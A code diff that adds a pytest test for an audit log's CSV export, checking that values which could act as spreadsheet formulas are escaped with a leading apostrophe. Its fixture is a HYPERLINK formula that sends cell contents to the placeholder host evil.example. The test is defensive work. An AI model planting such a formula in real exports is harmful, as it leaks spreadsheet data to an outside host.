@@ -3,6 +3,7 @@ writer killed with SIGKILL mid-run."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 import os
 import signal
@@ -88,6 +89,21 @@ def test_export_csv_and_json(tmp_path):
     assert json.loads((tmp_path / "events.json").read_text())[0]["detail"] == {"version": 2}
     with pytest.raises(ValueError, match="csv' or 'json"):
         log.export(tmp_path / "x.xml", "xml")
+
+
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path):
+    from app.audit import spreadsheet_safe
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    log = AuditLog(tmp_path / "x.sqlite")
+    log.record(make_answer(formula), "api", 0.2)
+    log.event("disable", "med", "@alice", "-bad", {"version": 2})
+    rows = list(csv.DictReader(io.StringIO(log.export_text("csv")[0])))
+    assert rows[0]["question"] == "'" + formula
+    event = list(csv.DictReader(io.StringIO(log.export_text("csv", "events")[0])))[0]
+    assert (event["who"], event["why"]) == ("'@alice", "'-bad")
+    assert [spreadsheet_safe(v) for v in ("-0.25", "+3", "1e-3", "plain", 2.5)] == ["-0.25", "+3", "1e-3", "plain", 2.5]
+    assert log.export_text("json")[0].count(formula.replace('"', '\\"')) == 1  # JSON keeps the text as it was
 
 
 def test_feedback_attaches_and_events_are_kept(tmp_path):
